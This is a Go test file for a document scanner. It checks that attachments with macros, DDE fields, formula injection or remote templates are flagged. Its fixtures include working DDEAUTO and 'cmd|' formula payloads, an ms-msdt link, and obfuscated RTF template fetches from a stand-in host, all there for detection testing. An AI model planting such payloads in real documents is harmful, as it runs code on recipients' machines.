package extract

import (
	"strings"
	"testing"
)

// related is a document with one relationship.
func related(kind, target, mode string) []byte {
	return docx("word/document.xml", "<w:p>brief</w:p>", "word/_rels/settings.xml.rels",
		`<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/`+
			`relationships/`+kind+`" Target="`+target+`" TargetMode="`+mode+`"/></Relationships>`)
}

// A document that runs or asks a program when it is opened is one with macros (C2.9a).
func TestDocumentsThatActAreMarked(t *testing.T) {
	sheet := func(content string) []byte {
		return docx("xl/workbook.xml", "<workbook/>", "xl/worksheets/sheet1.xml", content)
	}
	for _, c := range []struct {
		name, file string
		content    []byte
		acts       bool
	}{
		{"a project of macros", "a.docm", docx("word/vbaProject.bin", "x"), true},
		{"a project of macros under another name", "a.docx", related("vbaProject", "vba.dat", ""), true},
		{"a sheet of macros of Excel 4", "a.xlsm", docx("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>"), true},
		{"a sheet of macros in an old workbook", "a.xls",
			oleOf("Workbook", biffOf(0x0809, make([]byte, 16), 0x0085, []byte{0, 0, 0, 0, 1, 1, 1, 0, 'M'})), true},
		{"a field that asks a program", "a.docx",
			docx("word/document.xml", `<w:fldChar w:fldCharType="begin"/><w:instrText> DDEAUTO c:\\cmd.exe "/k x" </w:instrText>`), true},
		{"a field in pieces", "a.docx", docx("word/document.xml",
			`<w:fldChar/><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAU</w:instrText></w:r><w:r><w:instrText>TO cmd</w:instrText></w:r>`), true},
		{"a simple field", "a.docx", docx("word/document.xml", `<w:fldSimple w:instr=" DDE excel x y "/>`), true},
		{"a formula that asks a program", "a.xlsx", sheet(`<c><f>cmd|'/c calc'!A0</f></c>`), true},
		{"a link to a program", "a.xlsx", docx("xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c calc"/>`), true},
		{"a table of OpenDocument that asks a program", "a.ods", odf("content.xml", `<office:dde-source office:dde-application="cmd"/>`), true},
		{"a table that asks a program", "a.csv", []byte("naam;bedrag\nAnna;=cmd|' /C calc'!A0\n"), true},
		{"the same in quotes", "a.csv", []byte("naam,bedrag\nAnna,\"=1+MSEXCEL|'\\..\\..\\cmd.exe /c calc.exe'!''\"\n"), true},
		{"the same with a sign", "a.tsv", []byte("naam\t@SUM+cmd|'/c calc'!A1\n"), true},
		{"a slide that starts a program", "a.pptx", docx("ppt/slides/slide1.xml", `<a:hlinkClick action="ppaction://program" r:id="r"/>`), true},
		{"a link that runs something", "a.docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"), true},

		{"links", "a.docx", related("hyperlink", "https://www.school.example/lijst.dotm", "External"), false},
		{"a link to Teams", "a.docx", related("hyperlink", "msteams://teams.example/x", "External"), false},
		{"a picture from elsewhere", "a.docx", related("image", "https://www.school.example/logo.png", "External"), false},
		{"another workbook", "a.xlsx", related("externalLinkPath", "file:///C:\\begroting.xlsx", "External"), false},
		{"a list of DDE's history", "a.docx", docx("word/document.xml", "<w:t>DDEAUTO is een veld van Word</w:t>"), false},
		{"fields of pages", "a.docx", docx("word/document.xml", "<w:instrText> PAGE </w:instrText>"), false},
		{"formulas", "a.xlsx", sheet("<c><f>SUM(A1:A9)</f></c><c><f>'Blad 2'!A1</f></c>"), false},
		{"a table", "a.csv", []byte("naam;tel;opmerking\nAnna;+31 6 1|2;'s ochtends | 'vrij'!\n=SUM(A1:A2);-5;@x\n"), false},
	} {
		for where, m := range map[string]string{
			"attached": attached(c.file, "application/octet-stream", c.content),
			"in a zip": attached("map.zip", "application/zip", zipOf(c.file, string(c.content))),
		} {
			got := dangers(showMessage(t, m).report)
			if strings.Contains(got, "*") != c.acts {
				t.Errorf("%s, %s: got %q, want that it acts: %v", c.name, where, got, c.acts)
			}
		}
	}
}

// Where a document fetches parts of itself is reported; what is done with it depends on whose place it is.
func TestWhatADocumentFetchesIsReported(t *testing.T) {
	for kind, want := range map[string]int{"attachedTemplate": 1, "oleObject": 1, "frame": 1, "subDocument": 1, "image": 0,
		"hyperlink": 0, "externalLinkPath": 0} {
		r := showDocument(t, "brief.docx", related(kind, "https://kwaad.example/x.dotm", "External")).report
		if len(r.Fetches) != want {
			t.Errorf("%s: %d addresses, want %d", kind, len(r.Fetches), want)
		}
		if r = showDocument(t, "brief.docx", related(kind, "media/x.dotm", "")).report; len(r.Fetches) != 0 {
			t.Errorf("%s in the document: %d addresses, want none", kind, len(r.Fetches))
		}
	}
}

// The template of rich text is fetched as that of an office document is, however its address is written.
func TestTheTemplateOfRichTextIsReported(t *testing.T) {
	for content, want := range map[string]string{
		`{\rtf1{\*\template https://kwaad.example/a.dotm}Beste ouders}`:                 "https://kwaad.example/a.dotm",
		`{\rtf1{\*\template \\\\1.2.3.4\\d\\a.dotm}\par Beste}`:                         `\\1.2.3.4\d\a.dotm`,
		`{\rtf1{\*\template \u104?\u-65420?\u-65420?\u112?://kwaad.example/a}}`:         "http://kwaad.example/a",
		`{\rtf1{\*\template {\uc0\u104 t}\'74p://kwaad.example/a}}`:                     "http://kwaad.example/a",
		`{\rtf1{\*\template` + "\r\n" + `http://kwaad.example/a`:                        "http://kwaad.example/a",
		`{\rtf1{\*\template C:\\Users\\juf\\Normal.dotm}\par Beste ouders\par}`:         `C:\Users\juf\Normal.dotm`,
		`{\rtf1 De \{\\*\\template https://school.example\} staat in de les over RTF.}`: "",
		`{\rtf1{\stylesheet{\s1 Kop;}}{\info{\title brief}}Beste ouders}`:               "",
	} {
		got := ""
		for _, f := range showDocument(t, "brief.rtf", []byte(content)).report.Fetches {
			got += f.Target.Reveal()
		}
		if got != want {
			t.Errorf("%s: fetches %q, want %q", content, got, want)
		}
	}
}
